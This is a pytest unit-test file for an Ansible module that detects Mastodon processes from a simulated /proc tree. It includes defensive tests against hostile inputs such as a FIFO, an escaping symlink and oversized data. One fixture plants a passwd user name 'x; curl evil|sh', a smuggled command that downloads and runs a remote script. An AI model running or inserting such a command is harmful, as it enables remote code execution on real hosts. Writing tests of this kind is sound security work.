# Copyright: the fediops.mastodon contributors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import time

import pytest

from ansible_collections.fediops.mastodon.plugins.module_utils._instance.keepers import Keeper
from ansible_collections.fediops.mastodon.plugins.module_utils._instance.procfs import Processes
from ansible_collections.fediops.mastodon.plugins.module_utils._instance.running import mastodons
from ansible_collections.fediops.mastodon.tests.unit.plugins.module_utils._instance.proc_tree import (
    PUMA,
    SIDEKIQ,
    VERSION_RB,
    ProcTree,
)


@pytest.fixture
def tree(tmp_path):
    return ProcTree(tmp_path)


def look(tree):
    return mastodons(Processes(tree.root))


def test_web_and_sidekiq_of_a_unit(tree):
    tree.app()
    tree.both("0::/system.slice/mastodon-web.service\n", "0::/system.slice/mastodon-sidekiq.service\n")
    web, sidekiq = look(tree)
    assert (web.pid, web.role, web.app_dir, web.release) == (4711, "web", "/home/mastodon/live", "4.5.3")
    assert (web.program, web.user) == ("puma", "uid 48765")
    assert web.keeper == Keeper("unit", "mastodon-web.service")
    assert (sidekiq.program, sidekiq.keeper.name) == ("Sidekiq", "mastodon-sidekiq.service")


def test_workers_and_launchers_of_one_service_count_once_and_the_server_itself_is_named(tree):
    tree.app()
    cwd = "/home/mastodon/live"
    tree.process(20, "bash -c bundle exec puma -C config/puma.rb", cwd=cwd)
    tree.process(21, PUMA, cwd=cwd)
    tree.process(22, "puma: cluster worker 0: 21 [live]", cwd=cwd)
    assert [one.pid for one in look(tree)] == [21]


def test_a_process_below_its_directory_and_one_that_only_its_gemfile_leads_home(tree):
    tree.app()
    tree.process(20, PUMA, cwd="/home/mastodon/live/tmp/pids")
    tree.process(21, SIDEKIQ, environ="A=b\0BUNDLE_GEMFILE=/home/mastodon/live/Gemfile\0")
    assert [one.app_dir for one in look(tree)] == ["/home/mastodon/live"] * 2


def test_other_applications_with_puma_and_other_programs_of_mastodon_are_none(tree):
    tree.app()
    (tree.disk / "srv/gitlab").mkdir(parents=True)
    tree.process(20, PUMA, cwd="/srv/gitlab")
    tree.process(21, "vim config/puma.rb", cwd="/home/mastodon/live")
    tree.process(22, "ruby bin/tootctl media remove", cwd="/home/mastodon/live")
    tree.process(23, "node ./streaming", cwd="/home/mastodon/live")
    assert look(tree) == []


def test_the_user_of_a_container_is_named_as_the_container_knows_him(tree):
    tree.app()
    (tree.disk / "etc").mkdir()
    (tree.disk / "etc/passwd").write_text("root:x:0:0::/:/bin/sh\n:\nmastodon:x:991:991::/opt/mastodon:/bin/sh\n")
    tree.process(20, PUMA, "0::/docker/3f0a377ba0a4\n", "/home/mastodon/live", user=991)
    tree.process(21, PUMA, "0::/docker/4f0a377ba0a4\n", "/home/mastodon/live", user=992)
    assert [(one.uid, one.user) for one in look(tree)] == [(991, "mastodon"), (992, "uid 992")]


def test_a_host_without_proc(tmp_path):
    assert mastodons(Processes(str(tmp_path / "proc"))) == []


# What a user of the host can make of a process of his own


def test_a_version_file_that_is_a_pipe_does_not_hold_the_step(tree):
    place = tree.disk / "evil/lib/mastodon"
    place.mkdir(parents=True)
    os.mkfifo(place / "version.rb")
    tree.process(20, PUMA, cwd="/evil")
    assert look(tree) == []


def test_a_link_leads_to_no_file_outside_of_his_root(tree, tmp_path):
    (tmp_path / "secret.rb").write_text(VERSION_RB)
    place = tree.disk / "evil/lib/mastodon"
    place.mkdir(parents=True)
    (place / "version.rb").symlink_to(tmp_path / "secret.rb")
    tree.process(20, PUMA, cwd="/evil")
    assert look(tree) == []


def test_a_file_without_end_and_a_title_without_end_are_cut(tree):
    tree.app("/evil", "#" * 10_000_000)
    tree.process(20, PUMA + "x" * 1_000_000, cwd="/evil")
    assert look(tree) == []


def test_deep_folders_are_not_climbed_to_the_top(tree, monkeypatch):
    tree.app("/a")
    tree.process(20, PUMA, cwd="/a" + "/b" * 400)
    asked = []
    real = Processes.read_file
    monkeypatch.setattr(Processes, "read_file", lambda *given: asked.append(given) or real(*given))
    assert look(tree) == [] and len(asked) < 10


def test_thousands_of_groups_are_reported_up_to_a_bound(tree):
    tree.app()
    for pid in range(100, 260):
        tree.process(pid, PUMA, f"0::/system.slice/x{pid}.service\n", "/home/mastodon/live")
    assert len(look(tree)) == 64


@contextlib.contextmanager
def titled(title, folder):
    """A real process with this title in this folder."""
    ruby = shutil.copy(shutil.which("sleep"), folder / "ruby")
    with subprocess.Popen(["bash", "-c", f'exec -a "$0" {ruby} 60', title], cwd=folder) as process:
        try:
            deadline = time.monotonic() + 10
            while Processes().program(process.pid) != "ruby" and time.monotonic() < deadline:
                time.sleep(0.01)
            yield process.pid
        finally:
            process.kill()


def test_a_real_process(tmp_path):
    place = tmp_path / "live/lib/mastodon"
    place.mkdir(parents=True)
    (place / "version.rb").write_text(VERSION_RB)
    with titled(PUMA, tmp_path / "live") as pid:
        (one,) = [one for one in mastodons() if one.app_dir == str(tmp_path / "live")]
    assert (one.pid, one.role, one.release) == (pid, "web", "4.5.3")


@pytest.mark.parametrize("program", ["vim", "journalctl", "tail", "node"])
def test_a_program_that_is_no_ruby_does_not_count(tree, program):
    tree.process(4711, "sidekiq", cwd="/home/mastodon/live", program=program)
    assert look(tree) == []


def test_the_name_of_a_user_in_a_container_is_only_a_name(tree):
    tree.app()
    passwd = tree.disk / "etc/passwd"
    passwd.parent.mkdir(exist_ok=True)
    passwd.write_text("x; curl evil|sh:x:48765:1::/:/bin/sh\n")
    tree.process(4711, "puma 6.6.1 (x) [live]", f"0::/docker/{'a' * 64}\n", "/home/mastodon/live")
    assert [one.user for one in look(tree)] == ["uid 48765"]
